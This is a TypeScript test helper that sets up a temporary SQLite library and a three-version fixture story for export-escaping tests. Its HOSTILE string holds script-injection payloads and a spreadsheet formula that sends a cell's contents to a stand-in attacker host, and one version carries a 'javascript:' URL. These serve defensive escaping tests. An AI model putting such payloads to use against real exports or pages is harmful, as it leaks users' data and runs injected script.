// A real temporary library for export tests: better-sqlite3 on disk, versions imported through
// the backend's own import (dispatch → importItem), no mocks.
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { startBackend } from '../../../../backend/app';
import type { BackendContext } from '../../../../backend/context';
import { dispatch } from '../../../../backend/dispatch';
import { P, text } from '../../engine/fixtures';

/** A temporary library and how to remove it. */
export interface TempLibrary {
  dir: string;
  file: string;
  ctx: BackendContext;
  close: () => void;
}

/** Opens a new empty library (no demo story) in a temporary folder. */
export function tempLibrary(): TempLibrary {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'retold-export-'));
  const file = path.join(dir, 'library.sqlite');
  const ctx = startBackend({ file, shell: 'cli', seedDemo: false });
  return {
    dir,
    file,
    ctx,
    close: () => {
      ctx.library.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** Metadata of a pasted version. */
export interface PasteMeta {
  outlet?: string;
  url?: string;
  title?: string;
  published?: string;
}

/** Pastes `body` into the story (by id) or a new story (by title); returns the story id. */
export async function paste(
  ctx: BackendContext,
  target: number | string,
  body: string,
  meta: PasteMeta = {},
): Promise<number> {
  const r = await dispatch(ctx, 'versions.import', {
    target: typeof target === 'number' ? { storyId: target } : { newStoryTitle: target },
    item: { kind: 'paste', text: body, meta },
  });
  if (!r.ok) throw new Error(r.error.message);
  return (r.value as { storyId: number }).storyId;
}

/** The hostile text used by escaping tests: markup, a formula, quotes and commas. */
export const HOSTILE =
  '<script>alert("x")</script><img src="https://evil.example/p.png" onerror="alert(1)">' +
  ' =HYPERLINK("https://evil.example/?leak="&A1, "click me"), said the "source", plainly.';

/** A story of three versions: the fixture text, a trimmed rewrite, and a hostile one. */
export async function harborStory(
  ctx: BackendContext,
  title = 'Harbor cable vote',
): Promise<number> {
  const id = await paste(ctx, title, text(P), {
    outlet: 'Harbor Gazette',
    url: 'https://example.org/gazette/harbor',
    published: '2024-03-12T06:00:00Z',
  });
  await paste(ctx, id, text([P[0], P[2], P[1], P[3]] as string[]).replace('eighteen', 'twenty'), {
    outlet: 'Coast Ledger',
    url: 'https://example.com/ledger/harbor',
    published: '2024-03-13T06:00:00Z',
  });
  await paste(ctx, id, text([...P, HOSTILE]), {
    outlet: '<b>Evil</b> & Co',
    url: 'javascript:alert(1)',
    published: '2024-03-14T06:00:00Z',
  });
  return id;
}
